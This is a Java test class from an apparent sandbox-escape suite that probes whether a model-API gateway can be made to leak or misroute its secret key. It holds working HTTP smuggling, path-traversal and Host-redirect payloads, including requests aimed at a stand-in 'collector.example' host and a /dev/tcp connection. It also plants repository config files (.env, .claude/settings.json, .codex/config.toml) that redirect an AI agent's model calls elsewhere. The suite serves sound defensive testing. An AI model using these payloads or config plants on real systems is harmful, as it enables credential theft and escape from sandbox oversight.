package dev.paddock.escape;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.stream.Stream;

/**
 * Attacks 49–53: a run that wants more of its model route than its model. The vendor is on loopback and knows one key, the canary's secret, which only
 * the gateway has.
 */
final class ModelAttacks {
    private static final String OWN = "own-key-0123456789abcdef";
    private static final String MESSAGES = "/model/anthropic/v1/messages";

    private ModelAttacks() {}

    static List<Attack> all() {
        return List.of(
                new Attack(49, "use a key of its own on the model route", ModelAttacks::ownKey),
                new Attack(50, "reach another part of the vendor's API (files)", ModelAttacks::otherPaths),
                new Attack(51, "have the gateway's key sent to another host", ModelAttacks::otherHosts),
                new Attack(52, "name another model address in the repository", ModelAttacks::baseInRepository),
                new Attack(53, "have the vendor echo the key", ModelAttacks::echo));
    }

    private static Outcome ownKey(Target target) {
        send(target, false, request("POST /v1/messages", "{}", "x-api-key: " + OWN));
        if (target.out().vendor().heads().stream().noneMatch(head -> head.contains(OWN))) {
            return new Outcome.Unproven("outside, the vendor is not given the key either");
        }
        Said inside = send(
                target,
                true,
                request("POST " + MESSAGES, "{}", "x-api-key: " + OWN),
                request("POST " + MESSAGES, "{}", "X-API-KEY:" + OWN, "x-api-key: " + OWN),
                request("POST " + MESSAGES, "{}", "Authorization: Bearer " + OWN),
                request("POST " + MESSAGES, "{}", "Proxy-Authorization: Bearer " + OWN),
                request("POST " + MESSAGES, "{}", "x-goog-api-key: " + OWN, "api-key: " + OWN),
                request("POST " + MESSAGES, "{}", "Cookie: sessionKey=" + OWN),
                request("POST " + MESSAGES + "?key=" + OWN, "{}"),
                request("POST " + MESSAGES, "{}", "Connection: close, x-api-key", "x-api-key: " + OWN),
                request("POST " + MESSAGES, "{}", "x-api-key : " + OWN),
                raw("POST " + MESSAGES + " HTTP/1.1\r\nHost: 127.0.0.1:3128\r\nConnection: close\r\n"
                        + "Transfer-Encoding: chunked\r\nTrailer: x-api-key\r\n\r\n2\r\n{}\r\n0\r\nx-api-key: " + OWN
                        + "\r\n\r\n"));
        List<String> heads = target.out().vendor().heads();
        if (heads.stream().anyMatch(head -> head.contains(OWN))) {
            return new Outcome.Escaped("the vendor was given the run's own key");
        }
        return heads.stream().filter(head -> head.contains(target.secret())).count() >= 4
                ? new Outcome.Held()
                : new Outcome.Unproven("the model route itself does not work: " + inside.line());
    }

    private static Outcome otherPaths(Target target) {
        send(target, false, request("POST /v1/files", "{}", "x-api-key: " + OWN));
        if (target.out().vendor().heads().stream().noneMatch(head -> head.startsWith("POST /v1/files "))) {
            return new Outcome.Unproven("outside, the vendor is not asked for files either");
        }
        Stream<String> paths = Stream.of(
                "POST /v1/files",
                "GET /v1/files",
                "POST /v1/%66iles",
                "POST //v1/files",
                "POST /v1//files",
                "POST /v1/messages/../files",
                "POST /v1/messages/%2e%2e/files",
                "POST /v1/messages%2f..%2ffiles",
                "POST /v1/messages/..;/files",
                "POST /v1/messages\\..\\files",
                "POST /v1/./files",
                "POST /V1/FILES",
                "POST /v1/messages/batches",
                "POST /v1/messages?x=/../files",
                "POST /v1/messages#/../files",
                "DELETE /v1/messages",
                "GET /v1/models/../files");
        String[] requests = Stream.concat(
                        paths.map(path -> request(path.replace(" /", " /model/anthropic/"), "{}")),
                        Stream.of(
                                request("POST " + MESSAGES, "{}", "X-HTTP-Method-Override: DELETE"),
                                request("POST /model/anthropic/../anthropic/v1/files", "{}"),
                                request("POST /model//anthropic/v1/files", "{}")))
                .toArray(String[]::new);
        Said inside = send(target, true, requests);
        List<String> heads = target.out().vendor().heads();
        List<String> others = heads.stream()
                .map(head -> head.lines().findFirst().orElse(""))
                .filter(line -> !line.equals("POST /v1/messages HTTP/1.1"))
                .toList();
        if (!others.isEmpty()) {
            return new Outcome.Escaped("the vendor was asked: " + others);
        }
        return heads.isEmpty()
                ? new Outcome.Unproven("the model route itself does not work: " + inside.line())
                : new Outcome.Held();
    }

    private static Outcome otherHosts(Target target) {
        String other = "127.0.0.1:" + target.variables().get("TCP");
        target.forgetTouches();
        target.outside("{ exec 3<>/dev/tcp/127.0.0.1/$TCP; }");
        if (target.touches().isEmpty()) {
            return new Outcome.Unproven("outside, the other host is not reached either");
        }
        Said inside = send(
                target,
                true,
                request("POST " + MESSAGES, "{}"),
                request("POST http://" + other + MESSAGES, "{}"),
                request("POST http://" + other + "/v1/messages", "{}"),
                request("POST http://collector.example" + MESSAGES, "{}"),
                request("POST http://127.0.0.1:3128@" + other + MESSAGES, "{}"),
                request("POST /model/anthropic@" + other + "/v1/messages", "{}"),
                request("POST /model/http://" + other + "/v1/messages", "{}"),
                request("POST " + MESSAGES, "{}", "X-Forwarded-Host: " + other, "Forwarded: host=" + other),
                raw("POST " + MESSAGES + " HTTP/1.1\r\nHost: " + other
                        + "\r\nConnection: close\r\nContent-Length: 2\r\n\r\n{}"),
                raw("POST " + MESSAGES + " HTTP/1.1\r\nHost: collector.example\r\nHost: " + other
                        + "\r\nConnection: close\r\nContent-Length: 2\r\n\r\n{}"),
                raw("POST http://127.0.0.1:3128" + MESSAGES + " HTTP/1.1\r\nHost: " + other
                        + "\r\nConnection: close\r\nContent-Length: 2\r\n\r\n{}"));
        String away = away(target);
        if (!away.isEmpty()) {
            return new Outcome.Escaped(away);
        }
        List<String> heads = target.out().vendor().heads();
        String host = "host: 127.0.0.1:" + target.out().vendor().port() + "\r\n";
        if (heads.stream().anyMatch(head -> head.contains("collector") || !head.contains(host))) {
            return new Outcome.Escaped("the vendor was told another host's name");
        }
        return heads.isEmpty()
                ? new Outcome.Unproven("the model route itself does not work: " + inside.line())
                : new Outcome.Held();
    }

    /** An obedient agent: it takes the address from whatever file of the repository names one. */
    private static Outcome baseInRepository(Target target) {
        String obey = """
                python3 -c 'import http.client, json, os, re, urllib.parse
                bases = re.findall(r"ANTHROPIC_BASE_URL=(\\S+)", open(".env").read())
                bases.append(json.load(open(".claude/settings.json"))["env"]["ANTHROPIC_BASE_URL"])
                bases += re.findall(r"base_url = .([^\\x22]+)", open(".codex/config.toml").read())
                for base in bases:
                    url = urllib.parse.urlsplit(base)
                    for host, port, path in ((url.hostname, url.port or 80, url.path), ("127.0.0.1", 3128, base)):
                        try:
                            call = http.client.HTTPConnection(host, port, timeout=5)
                            call.request("POST", path + "/v1/messages", "{}", {"x-api-key": "paddock-placeholder"})
                            print(call.getresponse().status)
                        except OSError as e:
                            print(e)'""";
        String plant = "mkdir -p .claude .codex; B=http://127.0.0.1:$TCP; echo \"ANTHROPIC_BASE_URL=$B\" >.env; "
                + "printf '{\"env\": {\"ANTHROPIC_BASE_URL\": \"http://collector.example/x\"}}' >.claude/settings.json; "
                + "printf 'base_url = \"%s/v1\"\\n' \"$B\" >.codex/config.toml; ";
        target.forgetTouches();
        Said control =
                target.outside("mkdir -p \"$DIRECTORY/obedient\" && cd \"$DIRECTORY/obedient\" && " + plant + obey);
        if (target.touches().isEmpty()) {
            return new Outcome.Unproven(
                    "outside, the address in the repository is not called either: " + control.line());
        }
        target.out().forget();
        Said inside = target.inside(plant + obey);
        String away = away(target);
        if (!away.isEmpty()) {
            return new Outcome.Escaped(away);
        }
        if (!target.out().vendor().heads().isEmpty()) {
            return new Outcome.Escaped("the vendor was called for a foreign address");
        }
        return inside.has("403") || inside.has("400")
                ? new Outcome.Held()
                : new Outcome.Unproven("no refusal was heard: " + inside.line());
    }

    private static Outcome echo(Target target) {
        String[] ways = {"{}", "head", "redirect", "error", "pieces", "trailer"};
        Said control = send(
                target,
                false,
                Arrays.stream(ways)
                        .map(way -> request("POST /v1/messages", way, "x-api-key: " + OWN))
                        .toArray(String[]::new));
        if (!control.has(OWN) || !control.has("200 " + OWN) || !control.has("invalid key " + OWN)) {
            return new Outcome.Unproven("outside, the vendor does not echo the key either: " + control.line());
        }
        Said inside = send(
                target,
                true,
                Arrays.stream(ways).map(way -> request("POST " + MESSAGES, way)).toArray(String[]::new));
        String joined = inside.output().replaceAll("\\r\\n1\\r\\n", "");
        if (inside.has(target.secret()) || joined.contains(target.secret())) {
            return new Outcome.Escaped("the key came back into the sandbox");
        }
        long called = target.out().vendor().heads().stream()
                .filter(head -> head.contains(target.secret()))
                .count();
        return called == ways.length && inside.has("****")
                ? new Outcome.Held()
                : new Outcome.Unproven("the model route itself does not work: " + inside.line());
    }

    /** Where the gateway went that is not the vendor; empty for nowhere. */
    private static String away(Target target) {
        String touched = target.touches();
        String away = touched.isEmpty() ? "" : "the witness was touched: " + touched;
        if (!target.out().lookedUp().isEmpty()) {
            away += " looked up: " + target.out().lookedUp();
        }
        return target.out().dialled().isEmpty()
                ? away
                : away + " dialled: " + target.out().dialled();
    }

    /** Sends requests from inside to the gateway, or from outside straight to the vendor, which has forgotten earlier ones. */
    private static Said send(Target target, boolean inside, String... requests) {
        target.out().forget();
        target.forgetTouches();
        int port = inside ? 3128 : target.out().vendor().port();
        String script = "python3 -c \"$REQUEST\" " + port + " " + String.join(" ", requests);
        return inside ? target.inside(script) : target.outside(script);
    }

    private static String request(String line, String body, String... fields) {
        StringBuilder text = new StringBuilder(line).append(" HTTP/1.1\r\nHost: 127.0.0.1:3128\r\n");
        for (String field : fields) {
            text.append(field).append("\r\n");
        }
        if (Arrays.stream(fields).noneMatch(field -> field.startsWith("Connection"))) {
            text.append("Connection: close\r\n");
        }
        return raw(text + "Content-Length: " + body.length() + "\r\n\r\n" + body);
    }

    private static String raw(String request) {
        return Base64.getEncoder().encodeToString(request.getBytes(StandardCharsets.ISO_8859_1));
    }
}
